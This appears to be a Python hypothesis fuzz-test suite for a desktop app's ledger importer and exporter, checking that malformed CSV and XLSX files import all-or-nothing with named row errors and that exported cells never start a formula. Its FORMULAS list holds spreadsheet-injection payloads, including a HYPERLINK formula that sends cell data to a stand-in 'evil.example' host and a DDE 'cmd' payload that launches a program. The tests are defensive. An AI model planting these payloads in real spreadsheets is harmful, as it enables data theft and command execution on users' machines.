"""Fuzzing the ledger importer and exporter (hypothesis).

Whatever the file — random bytes, a wrong encoding, missing or unknown
headers, wrong cell types, huge cells, spreadsheet formulas, empty — the
importer either imports every row or raises one of its documented errors
(:class:`LedgerFileError` for an unusable file, :class:`LedgerImportError`
naming each bad row and why) and writes nothing.  Exported cells that a
spreadsheet would run as a formula are neutralised.
"""

import csv
import datetime as dt
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from desktop_app.services import applications
from desktop_app.services.ledger import (
    COLUMNS,
    LedgerFileError,
    LedgerImportError,
    export_ledger,
    import_ledger,
)
from desktop_app.services.session import open_register

TODAY = dt.date(2026, 6, 1)
FUZZ = settings(max_examples=60, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
HEADERS = [c.header for c in COLUMNS]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=1+1", "+SUM(A1:A9)", "-2+3",
            "@SUM(A1)", "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/\",A2),\"//a\")"]


@pytest.fixture(scope="module")
def workdir():
    with tempfile.TemporaryDirectory() as d:
        yield Path(d)


@pytest.fixture(scope="module")
def register(workdir):
    reg = open_register(workdir / "fuzz.db", create=True)
    base = {"receipt_date": "2026-03-05", "channel": "letter", "applicant_type": "natural_person",
            "applicant_name": "原有申请人", "info_description": "原有的申请内容"}
    for i in range(3):
        applications.register_application(reg, dict(base, applicant_name=f"原有{i}"), today=TODAY).app_id
    yield reg
    reg.close()


def snapshot(reg) -> tuple:
    conn = reg.store.db.conn
    return tuple(tuple(conn.execute(f"SELECT * FROM {t} ORDER BY 1").fetchall())
                 for t in ("applications", "events", "serial_counters"))


def check_import(reg, path: Path, n_rows: int | None = None):
    """Import ``path``; assert all-or-nothing and a documented outcome."""
    before = snapshot(reg)
    count_before = applications.count(reg)
    try:
        summary = import_ledger(reg, path, today=TODAY, backup=False)
    except LedgerFileError as exc:
        assert str(exc).strip(), "a file error must say what is wrong"
        assert snapshot(reg) == before
        return "file_error", exc
    except LedgerImportError as exc:
        assert exc.problems, "an import error must name the bad rows"
        for p in exc.problems:
            assert isinstance(p.row, int) and p.row >= 1
            if n_rows is not None:
                assert p.row <= n_rows + 50  # a row of the file (header rows included)
            assert p.message.strip() and p.text().startswith(f"第{p.row}行")
        assert snapshot(reg) == before  # never part of a file
        return "row_errors", exc
    # success: every data row is in the register (added or matched)
    assert summary.added + summary.updated + summary.unchanged == summary.total
    if n_rows is not None:
        assert summary.total == n_rows
    assert applications.count(reg) == count_before + summary.added
    assert reg.store.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    return "ok", summary


# --- raw bytes ------------------------------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".xlsx", ".txt"]))
def test_random_bytes_never_crash(register, workdir, data, suffix):
    path = workdir / f"random{suffix}"
    path.write_bytes(data)
    outcome, _ = check_import(register, path)
    assert outcome in ("file_error", "row_errors", "ok")


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\n\n\n", b",,,\n,,,\n",
                                     "申请人,申请内容\n".encode()])
def test_empty_and_header_only_files(register, workdir, content):
    path = workdir / "empty.csv"
    path.write_bytes(content)
    outcome, exc = check_import(register, path)
    assert outcome == "file_error", exc


def test_an_empty_xlsx_is_refused_as_a_file_error(register, workdir):
    openpyxl = pytest.importorskip("openpyxl")
    path = workdir / "empty.xlsx"
    openpyxl.Workbook().save(path)
    assert check_import(register, path)[0] == "file_error"


# --- structured CSV ---------------------------------------------------------------------------

cell_text = st.one_of(
    st.text(max_size=30),
    st.sampled_from(FORMULAS),
    st.sampled_from(["2026-03-05", "2026/3/5", "2026年3月5日", "3/5/2026", "昨天", "45000", "2099-01-01"]),
    st.sampled_from(["自然人", "商业企业", "其他组织", "法人", "", "  "]),
    st.sampled_from(["当面", "信函", "网络", "传真", "电子邮件", "飞鸽"]),
    st.sampled_from(["11010519491231002X", "110105194912310021", "123", "1.10105E+17"]),
    st.sampled_from(["予以公开", "部分公开", "不予公开", "3", "不存在"]),
    st.integers(-10**12, 10**12).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.just("长" * 40000),  # a huge cell
    st.text(alphabet="\x00\x01\x1b\u202e\ufeff\r\"',;\t", max_size=10),
)


@st.composite
def csv_files(draw):
    required = ["收到日期", "申请人类型", "申请人", "申请内容"]
    headers = draw(st.lists(st.sampled_from(HEADERS + ["无关列", "", "备注"]), min_size=0, max_size=10))
    if draw(st.booleans()):
        headers = required + headers  # often a usable header
    n = draw(st.integers(0, 6))
    rows = draw(st.lists(st.lists(cell_text, min_size=0, max_size=len(headers) + 2), min_size=n, max_size=n))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "utf-16", "latin-1", "big5"]))
    return headers, rows, encoding


def _write_csv(path: Path, headers, rows, encoding) -> bool:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(headers)
    for r in rows:
        w.writerow(r)
    try:
        path.write_bytes(buf.getvalue().encode(encoding))
    except UnicodeEncodeError:
        path.write_bytes(buf.getvalue().encode(encoding, errors="replace"))
    return True


@FUZZ
@given(spec=csv_files())
def test_malformed_csv_is_all_or_nothing_and_names_rows(register, workdir, spec):
    headers, rows, encoding = spec
    path = workdir / "fuzz.csv"
    _write_csv(path, headers, rows, encoding)
    outcome, result = check_import(register, path, n_rows=len(rows))
    if outcome == "ok":
        # formulas were stored as text, never evaluated
        for app in applications.all_applications(register):
            for value in app.values():
                assert not (isinstance(value, str) and value.startswith("=HYPERLINK") and value != value.strip())


@FUZZ
@given(rows=st.lists(st.tuples(st.sampled_from(FORMULAS + ["正常内容"]), st.sampled_from(FORMULAS + ["张某"])),
                     min_size=1, max_size=4))
def test_formula_cells_import_as_plain_text(register, workdir, rows):
    path = workdir / "formula.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["收到日期", "申请人类型", "申请人", "申请内容", "备注"])
        for i, (content, name) in enumerate(rows):
            w.writerow(["2026-03-05", "自然人", name + str(i), content + str(i), content])
    outcome, result = check_import(register, path, n_rows=len(rows))
    assert outcome in ("ok", "row_errors")
    if outcome == "ok":
        got = {(a.applicant_name, a.info_description) for a in applications.all_applications(register)}
        for i, (content, name) in enumerate(rows):
            assert (name + str(i), content + str(i)) in got


# --- structured XLSX --------------------------------------------------------------------------

xlsx_cell = st.one_of(
    st.none(), cell_text.filter(lambda t: len(t) < 32000),
    st.integers(-10**15, 10**15), st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(), st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(2100, 1, 1)),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)),
)


@FUZZ
@given(headers=st.lists(st.one_of(st.sampled_from(HEADERS), st.none(), st.integers(0, 9)), max_size=12),
       rows=st.lists(st.lists(xlsx_cell, max_size=12), max_size=5),
       with_required=st.booleans())
def test_malformed_xlsx_is_all_or_nothing(register, workdir, headers, rows, with_required):
    openpyxl = pytest.importorskip("openpyxl")
    if with_required:
        headers = ["收到日期", "申请人类型", "申请人", "申请内容"] + headers
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(headers)
    for r in rows:
        cleaned = []
        for v in r:
            if isinstance(v, str):
                # openpyxl refuses control characters; a real file cannot hold them either
                v = "".join(ch for ch in v if ch >= " " or ch in "\t\n\r")
            cleaned.append(v)
        ws.append(cleaned)
    path = workdir / "fuzz.xlsx"
    try:
        wb.save(path)
    except Exception:  # noqa: BLE001 - a value openpyxl itself cannot write is not a test input
        assume(False)
    outcome, _ = check_import(register, path)
    assert outcome in ("file_error", "row_errors", "ok")


def test_one_bad_row_among_good_ones_imports_nothing_and_names_it(register, workdir):
    path = workdir / "mixed.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["收到日期", "申请人类型", "申请人", "申请内容"])
        for i in range(20):
            w.writerow(["2026-03-05", "自然人", f"好人{i}", f"内容{i}"])
        w.writerow(["2026-13-45", "自然人", "坏行", "内容"])   # row 22: bad date
        w.writerow(["2026-03-05", "外星人", "坏行2", "内容"])  # row 23: bad type
    outcome, exc = check_import(register, path, n_rows=22)
    assert outcome == "row_errors"
    rows = {p.row for p in exc.problems}
    assert rows == {22, 23}
    assert any("收到日期" in p.message for p in exc.problems if p.row == 22)


# --- export neutralisation --------------------------------------------------------------------


@FUZZ
@given(values=st.lists(st.sampled_from(FORMULAS + ["'=already", "-", "+86 138", "@某人"])
                       | st.text(st.characters(min_codepoint=32, blacklist_categories=("Cs", "Cc")), max_size=12),
                       min_size=1, max_size=4),
       fmt=st.sampled_from(["csv", "xlsx"]))
def test_exported_cells_never_start_a_formula(workdir, values, fmt):
    d = Path(tempfile.mkdtemp(dir=workdir))
    reg = open_register(d / "exp.db", create=True)
    for i, v in enumerate(values):
        applications.register_application(reg, {"receipt_date": "2026-03-05", "applicant_type": "natural_person",
                             "applicant_name": (v or "某") + str(i), "info_description": (v or "内容") + str(i),
                             "notes": v or None, "address": v or None}, today=TODAY).app_id
    out = d / f"out.{fmt}"
    export_ledger(reg, out)
    if fmt == "csv":
        with open(out, encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
    else:
        import openpyxl

        wb = openpyxl.load_workbook(out)
        ws = wb.worksheets[0]
        cells = []
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula cell {c.coordinate}: {c.value!r}"
                if isinstance(c.value, str):
                    cells.append(c.value)
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@")), c
    # and importing the export back gives the original values
    reg2 = open_register(d / "back.db", create=True)
    import_ledger(reg2, out, today=TODAY, backup=False)
    names = sorted(a.applicant_name for a in applications.all_applications(reg2))
    assert names == sorted(a.applicant_name for a in applications.all_applications(reg))
    reg.close()
    reg2.close()


def test_export_survives_control_characters_in_the_register(workdir):
    """Found by the fuzz test above: the register accepted ESC and the XLSX export failed."""
    d = Path(tempfile.mkdtemp(dir=workdir))
    reg = open_register(d / "ctl.db", create=True)
    applications.register_application(reg, {"receipt_date": "2026-03-05", "applicant_type": "natural_person",
                         "applicant_name": "张\x1b某", "info_description": "内容"}, today=TODAY).app_id
    export_ledger(reg, d / "out.xlsx")
    import openpyxl

    ws = openpyxl.load_workbook(d / "out.xlsx").worksheets[0]
    names = [c.value for c in ws["C"]] + [c.value for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("张") for v in names)
    assert not any(isinstance(v, str) and "\x1b" in v for v in names)
